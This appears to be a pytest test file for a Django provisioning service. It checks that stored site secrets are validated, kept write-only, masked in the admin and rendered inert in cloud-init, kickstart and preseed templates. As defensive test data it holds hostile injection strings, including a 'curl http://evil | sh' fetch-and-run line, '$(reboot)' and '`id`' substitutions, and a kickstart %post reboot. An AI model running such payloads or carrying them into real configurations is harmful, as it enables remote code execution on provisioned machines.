"""A site's secrets: validated for what they are, write-only in /api/v2, masked in the admin, inert where they land."""

import pytest
from django.contrib.auth.models import User
from django.core.exceptions import ValidationError
from django.urls import reverse

from dock2box.validators import (
    validate_credential,
    validate_crypt_hash,
    validate_ssh_authorized_keys,
    validate_url,
    validate_username,
)
from hosts.models import Site
from provisioning.catalogue.services import boot_template_create
from tests import factories
from tests.conftest import grant

ED25519 = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIIGjRYtDWmlqv5hjSK89abcalg44hDhgZsD/MJXlazUF ops@example.com"
ECDSA = (
    "ecdsa-sha2-nistp256 AAAAE2VjZHNhLXNoYTItbmlzdHAyNTYAAAAIbmlzdHAyNTYAAABBBJfNm5xlD95l4UTXmmuSW0WeqYKsbh2jh"
    "qA8rgTHEG2+CUlEIUQlzCmADPca4A4wmngcm7p8ZKI0FTYgXi0ECBE="
)
SHA512 = "$6$abcdefgh$ltjgWl6579NluT/Vi1nwEvcil.G5Nbc4NiXZaNGStk8PSwGfQv72N2CKPPrVACtLtip/cZ/1GM/O6IND4WQhG."
# What the hostile-input review injected: a newline and a cloud-config fragment, shell substitutions, quotes.
INJECTIONS = [
    "\nruncmd:\n  - [sh, -c, 'curl http://evil | sh']",
    "$(reboot)",
    "`id`",
    "x\n%post\nreboot\n%end",
    "x'\ny",
    "a\rb",
    "a\x00b",
]


@pytest.mark.parametrize(
    "value",
    [
        SHA512,
        "$6$rounds=5000$abcdefgh$ltjgWl6579NluT/Vi1nwEvcil.G5Nbc4NiXZaNGStk8PSwGfQv72N2CKPPrVACtLtip/cZ/1GM/O6IND4WQhG.",
        "$5$abcd$BgCbKzckrgGdFcL/gWllSOkKJCXQV5rwJeTh9xnsJ1D",
        "$1$ab$dslkcXxVH.x8LwW1W/oAB/",
        "$y$j9T$F5Jx5fExrKuPp53xLKQ..1$X3DX6M94c7o.9agCG9G317fhZg9SqC.5i5rd.RhAtQ7",
        "$2b$12$R9h/cIPz0gi.URNNX3kh2OPST9/PgBkqquzi.Ss7KIUgO2t0jWMUW",
        "!" + SHA512,
        "!",
        "*",
    ],
)
def test_crypt_hashes_are_accepted(value):
    validate_crypt_hash(value)


@pytest.mark.parametrize(
    "value",
    [*(SHA512 + text for text in INJECTIONS), "secret", "$6$", "$6$salt", "$9$salt$hash", SHA512 + " ", "!!" + SHA512],
)
def test_anything_but_a_crypt_hash_is_refused(value):
    with pytest.raises(ValidationError, match="Not a crypt"):
        validate_crypt_hash(value)


@pytest.mark.parametrize(
    "value",
    [
        ED25519,
        f"{ED25519}\n{ECDSA}\n\n# the backup key\n",
        f"{ED25519}\r\n{ECDSA}",
        ECDSA,  # no comment
        f'from="10.0.0.0/8,!10.0.0.1",no-pty,command="/usr/bin/backup \\"$(date)\\"" {ED25519}',
        f"restrict {ED25519}",
    ],
)
def test_authorized_keys_are_accepted(value):
    validate_ssh_authorized_keys(value)


@pytest.mark.parametrize(
    ("value", "says"),
    [
        ("ssh-ed25519", "no key"),
        ("ssh-ed25519 AAAAC3Nza ops@example.com", "not base64"),
        ("ssh-ed25519 " + ECDSA.split()[1], "not a ssh-ed25519 key"),
        ("ssh-foo AAAA", "does not start with a key type"),
        (f"$(reboot) {ED25519}", "does not start with a key type"),
        (f'command="unterminated {ED25519}', "does not start with a key type"),
        (f"{ED25519}\n$(curl http://evil | sh)", "Line 2"),
        (f"{ED25519} comment\x1b[2J", "control character"),
        (f"{ED25519}\nruncmd: [reboot]", "Line 2"),
        # Line ends that sshd, YAML or Python see and "\n" does not: refused, not taken for a second key.
        *[
            (f"{ED25519} ops{separator}{ECDSA}", "Line 1 holds a control character or a line separator")
            for separator in ("\u2028", "\u2029", "\x85", "\r", "\x0b", "\x0c", "\x1c")
        ],
        (f"{ED25519}\u2028", "line separator"),
    ],
)
def test_anything_but_authorized_keys_is_refused(value, says):
    with pytest.raises(ValidationError, match=says.replace("$", r"\$").replace("(", r"\(")):
        validate_ssh_authorized_keys(value)


@pytest.mark.parametrize("value", [*INJECTIONS[:1], *INJECTIONS[3:], "a\u2028b", "a\u2029b", "a\x85b", "a\x9bb"])
def test_credentials_refuse_control_characters(value):
    with pytest.raises(ValidationError, match="control character"):
        validate_credential(value)


def test_credentials_take_any_printable_text_and_user_names_no_colon():
    validate_credential("p@ss w0rd $(not-run) `x` 'q' \"dq\" \\")
    validate_username("robot$puller")
    with pytest.raises(ValidationError, match="':'"):
        validate_username("user:name")


@pytest.mark.parametrize(
    "value", ["http://files/a b", "http://files/a\tb", "http://files/x?y=1", "http://files/$(x)", "http://f/'x'"]
)
def test_urls_with_spaces_or_shell_characters_are_refused(value):
    with pytest.raises(ValidationError):
        validate_url(value)


@pytest.fixture
def site(db):
    return factories.SiteFactory(
        name="ams1", registry_username="puller", registry_password="s3cret-pull", root_password_hash=SHA512,
        ssh_authorized_keys=ED25519,
    )  # fmt: skip


@pytest.mark.parametrize(
    "field",
    ["root_password_hash", "ssh_authorized_keys", "registry_username", "registry_password", "ntp_servers"],
)
@pytest.mark.parametrize("injection", INJECTIONS)
def test_the_api_refuses_hostile_secrets_with_the_field_and_keeps_what_was_stored(
    site, user, token_client, field, injection
):
    grant(user, "hosts.change_site", "hosts.view_site")
    before = {name: getattr(site, name) for name in ["root_password_hash", "ssh_authorized_keys", "registry_password"]}
    value = {"ssh_authorized_keys": ED25519, "root_password_hash": SHA512, "ntp_servers": "ntp.example.com"}.get(
        field, "puller"
    )
    response = token_client.patch(reverse("site-detail", args=[site.pk]), {field: value + injection}, format="json")
    if injection in ("$(reboot)", "`id`") and field != "root_password_hash" and field != "ntp_servers":
        # Printable text is a valid password, user name or key comment: it lands quoted wherever it goes.
        assert response.status_code == 200, response.content
        return
    if injection == "a\rb" and field == "ntp_servers":
        assert response.status_code == 200  # \r separates like a space: two servers
        site.refresh_from_db()
        assert site.ntp_servers == "ntp.example.coma,b"
        return
    assert response.status_code == 400, response.content
    assert list(response.json()) == [field]
    site.refresh_from_db()
    assert {name: getattr(site, name) for name in before} == before


def test_secrets_are_write_only_in_the_api(site, user, token_client):
    grant(user, "hosts.view_site", "hosts.change_site")
    url = reverse("site-detail", args=[site.pk])
    for response in [token_client.get(url), token_client.get(reverse("site-list"))]:
        text = response.content.decode()
        assert "s3cret-pull" not in text and "puller" not in text and SHA512 not in text and "AAAAC3" not in text
    shown = token_client.get(url).json()
    assert shown["secrets_set"] == ["registry_username", "registry_password", "root_password_hash",
                                    "ssh_authorized_keys"]  # fmt: skip
    assert not {"registry_password", "root_password_hash", "ssh_authorized_keys", "registry_username"} & set(shown)

    replaced = token_client.patch(url, {"registry_password": "n3w", "root_password_hash": ""}, format="json")
    assert replaced.status_code == 200
    assert replaced.json()["secrets_set"] == ["registry_username", "registry_password", "ssh_authorized_keys"]
    site.refresh_from_db()
    assert (site.registry_password, site.root_password_hash, site.ssh_authorized_keys) == ("n3w", "", ED25519)

    put = token_client.put(url, {"name": "ams1", "domain": "ams1.example.com"}, format="json")
    assert put.status_code == 200  # a PUT that leaves a secret out keeps it
    site.refresh_from_db()
    assert site.registry_password == "n3w"


def test_the_admin_masks_secrets_for_users_who_cannot_change_them(site, client):
    viewer = User.objects.create_user(username="viewer", password="viewer-password-1", is_staff=True)
    grant(viewer, "hosts.view_site")
    client.force_login(viewer)
    page = client.get(reverse("admin:hosts_site_change", args=[site.pk])).content.decode()
    assert "ams1" in page and "set (hidden)" in page
    assert "s3cret-pull" not in page and "puller" not in page and SHA512 not in page and "AAAAC3" not in page


def test_the_admin_refuses_a_hostile_hash(site, admin_client):
    url = reverse("admin:hosts_site_change", args=[site.pk])
    form = {"name": "ams1", "domain": "", "dns_servers": "", "ntp_servers": "", "file_uri": "", "registry": "",
            "registry_username": "puller", "registry_password": "s3cret-pull",
            "root_password_hash": SHA512 + "\nruncmd: [reboot]", "ssh_authorized_keys": ED25519}  # fmt: skip
    response = admin_client.post(url, form)
    assert response.status_code == 200 and "Not a crypt(3) hash" in response.content.decode()
    assert Site.objects.get(pk=site.pk).root_password_hash == SHA512


def test_the_admin_never_sends_the_registry_password_back(site, admin_client):
    """Not even to those who may change it: empty keeps the stored one, a new one replaces it, the box removes it."""
    url = reverse("admin:hosts_site_change", args=[site.pk])
    page = admin_client.get(url).content.decode()
    assert "s3cret-pull" not in page and "One is stored: leave empty to keep it." in page
    form = {"name": "ams1", "domain": "", "dns_servers": "", "ntp_servers": "", "file_uri": "", "registry": "",
            "registry_username": "puller", "registry_password": "", "root_password_hash": SHA512,
            "ssh_authorized_keys": ED25519}  # fmt: skip
    assert admin_client.post(url, form).status_code == 302
    assert Site.objects.get(pk=site.pk).registry_password == "s3cret-pull"
    assert admin_client.post(url, {**form, "registry_password": "n3w pull"}).status_code == 302
    assert Site.objects.get(pk=site.pk).registry_password == "n3w pull"
    assert admin_client.post(url, {**form, "registry_password_remove": "on"}).status_code == 302
    assert Site.objects.get(pk=site.pk).registry_password == ""
    assert "None is stored." in admin_client.get(url).content.decode()


HOSTILE_PASSWORD = 'p\'w $(reboot) `id` "q" \\ {{ x }}'
HOSTILE_KEY = f'command="/bin/echo \\"$(id)\\" it\'s",no-pty {ED25519[:-16]} it\'s $(reboot)'
TEMPLATES = {
    "cloud-init": "#cloud-config\nusers:\n  - name: root\n    hashed_passwd: {{ secrets.root_password_hash|json }}\n"
    "    ssh_authorized_keys: {{ secrets.ssh_authorized_keys|json }}\nwrite_files:\n  - path: /etc/registry\n"
    "    content: {{ secrets.registry_password|json }}\n",
    "kickstart": "rootpw --iscrypted {{ secrets.root_password_hash|ks }}\n"
    "sshkey --username=root {{ secrets.ssh_authorized_keys.0|ks }}\n",
    "preseed": "d-i passwd/root-password-crypted password {{ secrets.root_password_hash }}\n"
    "d-i preseed/late_command string echo {{ secrets.registry_password|sh }} > /target/etc/registry\n",
}


@pytest.fixture
def hostile_build(db, client, settings, django_capture_on_commit_callbacks):
    from hosts.services import site_update
    from tests.boot_world import BUILD_MAC, make_world

    settings.DOCK2BOX_PUBLIC_URL = "http://portal.example.com"
    world = make_world()
    with django_capture_on_commit_callbacks(execute=True):
        site_update(site=world.site, data={"registry_password": HOSTILE_PASSWORD, "root_password_hash": "!" + SHA512,
                                           "ssh_authorized_keys": HOSTILE_KEY})  # fmt: skip
        for kind, content in TEMPLATES.items():
            boot_template_create(data={"name": kind, "kind": kind, "content": content})
    text = client.get(f"/ipxe?mac={BUILD_MAC}").content.decode()
    return text.split("/config/", 1)[1].split()[0]


def test_validated_secrets_pass_their_own_checks(db):
    validate_ssh_authorized_keys(HOSTILE_KEY)
    validate_credential(HOSTILE_PASSWORD)


def test_operator_templates_render_unescaped_and_the_filters_keep_values_inert(client, hostile_build, tmp_path):
    import shlex
    import subprocess

    import yaml

    def fetch(fmt: str) -> str:
        response = client.get(f"/config/{hostile_build}?format={fmt}")
        assert response.status_code == 200, response.content
        return response.content.decode()

    cloud = yaml.safe_load(fetch("cloud-init"))
    assert cloud["users"][0]["hashed_passwd"] == "!" + SHA512
    assert cloud["users"][0]["ssh_authorized_keys"] == [HOSTILE_KEY]
    assert cloud["write_files"][0]["content"] == HOSTILE_PASSWORD
    assert set(cloud) == {"users", "write_files"}  # nothing injected at the top level

    kickstart = fetch("kickstart").splitlines()
    assert shlex.split(kickstart[0]) == ["rootpw", "--iscrypted", "!" + SHA512]
    assert shlex.split(kickstart[1]) == ["sshkey", "--username=root", HOSTILE_KEY]
    assert "&#x27;" not in fetch("kickstart") and "&quot;" not in fetch("kickstart")

    preseed = fetch("preseed")
    assert preseed.count("\n") == 2  # one line per question: the validated hash has no newline
    command = preseed.splitlines()[1].split(" string ", 1)[1].replace("/target/etc/registry", str(tmp_path / "r"))
    subprocess.run(["sh", "-c", command], check=True)
    assert (tmp_path / "r").read_text() == HOSTILE_PASSWORD + "\n"


def _staff(name: str, *actions: str) -> User:
    from django.contrib.auth.models import Permission

    user = User.objects.create_user(username=name, password="pw", is_staff=True)
    user.user_permissions.set(Permission.objects.filter(codename__regex=rf"^({'|'.join(actions)})_"))
    return user


def test_no_one_reads_an_api_token_after_it_was_made(client, admin_user):
    """View-only staff, staff who may change everything (users included) and superusers alike: no admin page, no
    history and no API answer shows a token's key; a superuser sees it once, when making it."""
    from rest_framework.authtoken.models import Token

    kept = Token.objects.create(user=admin_user).key
    users = [_staff("viewer", "view"), _staff("changer", "view", "change"), _staff("adder", "view", "change", "add")]
    client.force_login(admin_user)
    made = client.post("/admin/dock2box/apitoken/add/", {"user": users[0].pk}, follow=True).content.decode()
    new = Token.objects.get(user=users[0]).key
    assert made.count(new) == 1 and "not shown again" in made
    pages = ["/admin/", "/admin/dock2box/apitoken/", f"/admin/dock2box/apitoken/{admin_user.pk}/change/",
             f"/admin/dock2box/apitoken/{users[0].pk}/change/", f"/admin/dock2box/apitoken/{admin_user.pk}/history/",
             f"/admin/dock2box/apitoken/{admin_user.pk}/delete/", "/admin/authtoken/tokenproxy/",
             "/admin/admin/logentry/", "/api/v2/history/"]  # fmt: skip
    for who in [*users, admin_user]:
        client.force_login(who)
        for page in pages:
            body = client.get(page).content.decode()
            assert kept not in body and new not in body, (who.username, page)
        listed = client.get("/admin/dock2box/apitoken/")
        assert listed.status_code == (200 if who.is_superuser else 403), who.username
    client.force_login(admin_user)
    assert f"{kept[:4]}…" in client.get("/admin/dock2box/apitoken/").content.decode()


def test_a_secret_is_forgotten_when_where_it_goes_changes(site, admin_user, client):
    """A BMC's password follows its address (the next login hands the address the password's hash), a site's registry
    password its registry: a new destination without the secret given again forgets it, in the API and the admin."""
    from rest_framework.test import APIClient

    from hosts.models import Bmc

    api = APIClient()
    api.force_authenticate(admin_user)
    bmc = factories.BmcFactory(address="10.9.0.10", password="bmc-password")
    assert api.patch(f"/api/v2/bmcs/{bmc.pk}/", {"username": "root"}, format="json").status_code == 200
    assert Bmc.objects.get(pk=bmc.pk).password == "bmc-password"  # same address: kept
    assert api.patch(f"/api/v2/bmcs/{bmc.pk}/", {"address": "10.9.0.11"}, format="json").status_code == 200
    assert Bmc.objects.get(pk=bmc.pk).password == ""
    moved = {"address": "10.9.0.12", "password": "n3w"}
    assert api.patch(f"/api/v2/bmcs/{bmc.pk}/", moved, format="json").status_code == 200
    assert Bmc.objects.get(pk=bmc.pk).password == "n3w"  # given again with the move: kept

    Site.objects.filter(pk=site.pk).update(registry="registry.example.com", registry_password="r3g")
    assert api.patch(f"/api/v2/sites/{site.pk}/", {"registry": "evil.example.net"}, format="json").status_code == 200
    assert Site.objects.get(pk=site.pk).registry_password == ""

    client.force_login(admin_user)
    page = client.get(f"/admin/hosts/bmc/{bmc.pk}/change/")
    form = page.context["adminform"].form
    data = {name: ("" if value is None else value) for name, value in form.initial.items()}
    data |= {"address": "10.9.0.13", "password": ""}  # the box left empty: "keep" for the same address only
    assert client.post(f"/admin/hosts/bmc/{bmc.pk}/change/", data).status_code == 302
    assert (Bmc.objects.get(pk=bmc.pk).address, Bmc.objects.get(pk=bmc.pk).password) == ("10.9.0.13", "")
